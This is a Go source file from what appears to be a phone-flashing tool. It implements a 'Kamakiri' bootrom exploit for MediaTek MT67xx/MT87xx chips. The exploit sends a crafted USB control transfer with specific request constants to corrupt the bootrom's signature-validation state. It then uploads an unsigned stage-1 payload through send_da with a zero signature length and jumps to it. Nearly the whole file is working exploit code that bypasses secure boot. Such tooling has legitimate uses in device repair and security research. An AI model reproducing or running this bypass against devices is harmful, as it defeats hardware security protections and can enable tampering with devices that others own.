// internal/exploit/kamakiri.go
// Kamakiri-class bridge (MT67xx/MT87xx, spec.md §4.8): a crafted USB
// control transfer corrupts BROM's validation state, after which an
// unsigned stage-1 payload can ride the otherwise-authenticated send_da
// path. Composes protocol.Preloader (the limited write primitive) with a
// raw transport.ControlTransport capability (the stronger primitive — a
// control transfer BROM's normal validation never sees).
package exploit

import (
	"context"

	"flashcore/internal/flasherr"
	"flashcore/internal/protocol"
	"flashcore/internal/transport"
)

// Kamakiri-specific control-request fields. These ride the device's
// default control endpoint, bypassing the bulk send_da validation path
// entirely.
const (
	kamakiriRequestType = 0x21 // host-to-device, class, interface recipient
	kamakiriRequest     = 0xA1
	kamakiriCorruptValue = 0xFFFF
)

// Kamakiri implements Bridge over a Preloader session and a transport that
// exposes raw control transfers.
type Kamakiri struct {
	Preloader *protocol.Preloader
	Control   transport.ControlTransport
	DAAddr    uint32
}

// NewKamakiri constructs a Kamakiri bridge. Control must be non-nil — a
// transport lacking ControlTransport cannot run this exploit, and callers
// should check before wiring one up (e.g. via a type assertion on the
// session's transport).
func NewKamakiri(pre *protocol.Preloader, ctrl transport.ControlTransport, daAddr uint32) *Kamakiri {
	return &Kamakiri{Preloader: pre, Control: ctrl, DAAddr: daAddr}
}

// Prepare issues the crafted control transfer that corrupts BROM's
// signature-validation state (spec.md §4.8).
func (k *Kamakiri) Prepare(ctx context.Context) error {
	if k.Control == nil {
		return flasherr.NewExploitError(flasherr.ExploitUnsupportedChip, nil)
	}
	_, err := k.Control.ControlTransfer(ctx, kamakiriRequestType, kamakiriRequest, kamakiriCorruptValue, 0, nil)
	if err != nil {
		return flasherr.NewExploitError(flasherr.ExploitPayloadRejected, err)
	}
	return nil
}

// RunPayload uploads payload as an unsigned stage-1 DA through the
// now-unvalidated send_da path (sigLen=0 — BROM's corrupted state skips
// the signature check it would otherwise perform).
func (k *Kamakiri) RunPayload(ctx context.Context, payload []byte) (PayloadResult, error) {
	if err := k.Preloader.SendDA(ctx, k.DAAddr, 0, payload); err != nil {
		return PayloadResult{}, err
	}
	if err := k.Preloader.JumpDA(ctx, k.DAAddr); err != nil {
		return PayloadResult{}, err
	}
	return PayloadResult{BytesSent: len(payload), JumpAddr: k.DAAddr}, nil
}
